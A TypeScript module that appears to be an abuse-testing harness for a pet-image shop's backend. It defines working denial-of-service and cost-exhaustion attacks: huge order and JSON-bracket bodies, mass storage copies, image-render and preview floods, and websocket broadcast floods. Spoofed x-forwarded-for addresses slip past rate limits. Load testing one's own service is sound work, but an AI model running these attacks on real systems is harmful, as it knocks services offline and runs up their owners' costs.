import { randomUUID } from 'node:crypto';
import { WebSocket } from 'ws';

/** What attackers can use: public ids, accounts and orders. */
export interface Target {
  readonly origin: string;
  readonly publishableKey: string;
  readonly productId: string;
  /** An account of the attacker's with a large picture. */
  readonly user: { readonly id: string; readonly token: string };
  readonly artPath: string;
  readonly artUrl: string;
  /** A large photo as a data URL. */
  readonly photo: string;
}

/** How often an attack had which answer: a status, `gone`, or the code of an error. */
export type Answers = Readonly<Record<string, number>>;

export type AttackName = keyof typeof ATTACKS;

/** As many requests under way at the same time as a script opens connections. */
const AT_ONCE = 20;
const ADDRESS = '203.0.113.7';
/** A message of the broadcasts. */
const BROADCAST_BYTES = 200_000;
const BROADCAST_MS = 8000;
const SOCKETS = 20;
/** Connections above a hundred messages a second are cut off. */
const SPEAK_MS = 12;

/** The attacks on what the shop pays for, each with ten times the requests of the one that was found. */
export const ATTACKS = {
  'orders of 50 lines': (target: Target) =>
    many(100, (turn) =>
      post(target, 'functions/v1/place-order', {
        key: randomUUID(),
        email: 'attack@example.test',
        address: TO,
        lines: Array.from({ length: 50 }, () => ({
          productId: target.productId,
          quantity: 1,
          customization: { artUrl: target.artUrl },
        })),
        expectedTotalCents: turn,
      }),
    ),
  'brackets without end': (target: Target) => {
    const body = '['.repeat(13_000_000);
    const names = ['place-order', 'quote-order', 'transform-pet-image', 'record-events'];
    return many(50, (turn) => post(target, `functions/v1/${names[turn % names.length]}`, body));
  },
  'pictures of any size, hung up': (target: Target) =>
    many(400, (turn) => {
      // Every second one in a size that is served.
      const width = turn % 2 ? 100 + turn : 320 + 320 * (turn % 8);
      const path = `storage/v1/render/image/public/pet-images/${target.artPath}?width=${width}&quality=${40 + 10 * (turn % 6)}`;
      return ask(target, path, { signal: AbortSignal.timeout(turn % 3 ? 60_000 : 50) });
    }),
  copies: (target: Target) =>
    many(2600, (turn) =>
      post(target, 'storage/v1/object/copy', {
        bucketId: 'pet-images',
        sourceKey: target.artPath,
        destinationKey: `${target.user.id}/copy-${turn}.png`,
      }),
    ),
  broadcasts,
  'previews, hung up': (target: Target) =>
    many(60, () =>
      post(target, 'functions/v1/transform-pet-image', preview(target), {
        signal: AbortSignal.timeout(400),
        authorization: null,
      }),
    ),
  'a burst of large photos': (target: Target) =>
    many(
      60,
      (turn) =>
        post(target, 'functions/v1/transform-pet-image', preview(target), {
          authorization: null,
          address: `203.0.113.${turn + 100}`,
        }),
      60,
    ),
} as const;

const TO = {
  name: 'Pat',
  line1: '1 Main St',
  city: 'Albany',
  region: 'NY',
  postalCode: '12207',
  country: 'US',
};

function preview({ photo }: Target): string {
  return JSON.stringify({ imageUrl: photo, transformationType: 'vibrant', backgroundType: 'automatic' });
}

async function many(
  count: number,
  attack: (turn: number) => Promise<string>,
  atOnce = AT_ONCE,
): Promise<Answers> {
  const answers: Record<string, number> = {};
  let next = 0;
  const run = async () => {
    while (next < count) {
      const answer = await attack(next++);
      answers[answer] = (answers[answer] ?? 0) + 1;
    }
  };
  await Promise.all(Array.from({ length: Math.min(atOnce, count) }, run));
  return answers;
}

interface Asking {
  readonly body?: string;
  readonly signal?: AbortSignal;
  /** `null` for a guest. */
  readonly authorization?: null;
  readonly address?: string;
}

async function ask({ origin, publishableKey, user }: Target, path: string, more: Asking): Promise<string> {
  const { body, signal, authorization, address = ADDRESS } = more;
  try {
    const answer = await fetch(`${origin}/${path}`, {
      method: body === undefined ? 'GET' : 'POST',
      headers: {
        apikey: publishableKey,
        'x-forwarded-for': address,
        ...(authorization === null ? {} : { authorization: `Bearer ${user.token}` }),
        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      },
      ...(body === undefined ? {} : { body }),
      ...(signal ? { signal } : {}),
    });
    await answer.arrayBuffer();
    return String(answer.status);
  } catch (error) {
    if (signal?.aborted) return 'gone';
    const { cause } = error as { cause?: { code?: string } };
    return cause?.code ?? String(error);
  }
}

function post(target: Target, path: string, body: object | string, more: Asking = {}): Promise<string> {
  return ask(target, path, { ...more, body: typeof body === 'string' ? body : JSON.stringify(body) });
}

/** Sockets that all send as often as allowed and receive each other's messages; every fourth stops reading. */
async function broadcasts({ origin, publishableKey }: Target): Promise<Answers> {
  const answers: Record<string, number> = { received: 0 };
  const topic = 'realtime:flood';
  const text = 'x'.repeat(BROADCAST_BYTES);
  const [join, shout] = [
    ['phx_join', { config: { broadcast: { self: true } } }],
    ['broadcast', { type: 'broadcast', event: 'x', payload: { text } }],
  ].map(([event, payload]) => JSON.stringify(['1', '2', topic, event, payload]));
  const address = `${origin.replace('http', 'ws')}/realtime/v1/websocket?apikey=${publishableKey}&vsn=2.0.0`;
  const end = Date.now() + BROADCAST_MS;
  await Promise.all(
    Array.from({ length: SOCKETS }, async (_, number) => {
      const socket = new WebSocket(address, { headers: { 'x-forwarded-for': ADDRESS } });
      const closed = new Promise<void>((done) => {
        socket.on('close', (code) => {
          answers[`closed ${code}`] = (answers[`closed ${code}`] ?? 0) + 1;
          done();
        });
        socket.on('error', () => done());
      });
      const speak = () => {
        if (Date.now() > end || socket.readyState !== WebSocket.OPEN) return socket.terminate();
        socket.send(shout, () => setTimeout(speak, SPEAK_MS));
      };
      socket.on('open', () => socket.send(join));
      socket.once('message', () => {
        if (number % 4 === 0) socket.pause();
        speak();
      });
      socket.on('message', () => {
        answers.received = (answers.received ?? 0) + 1;
      });
      await closed;
    }),
  );
  return answers;
}
